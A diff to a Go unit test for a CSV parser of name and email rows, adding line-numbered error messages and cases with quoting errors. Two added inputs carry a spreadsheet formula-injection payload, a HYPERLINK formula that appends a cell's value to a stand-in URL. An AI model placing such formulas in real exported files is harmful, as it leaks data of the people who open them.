@@ -25,7 +25,9 @@ func TestParseCSV(t *testing.T) {
 			map[int]string{1: "got 1 field", 2: "got 6 field", 3: "name is empty", 4: "not a number"}, ""},
 		{"duplicate", "Ann,a@x.test\nann,A@x.test\n", 2, map[int]string{2: "same person as line 1"}, ""},
 		{"empty", "name,email\n", 0, nil, "holds no people"},
-		{"not CSV", "a,\"b\nc", 0, nil, "not a CSV file"},
+		{"not CSV", "a,\"b\nc", 0, nil, "not a CSV file: line 1"},
+		{"bare quote", "name,email\nAnn,a@x.test\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n", 0, nil, "not a CSV file: line 3"},
+		{"formula names are people too", "\"=HYPERLINK(\"\"http://x/\"\"&A2)\",a@example.com\n+1,b@x.test\n", 2, nil, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
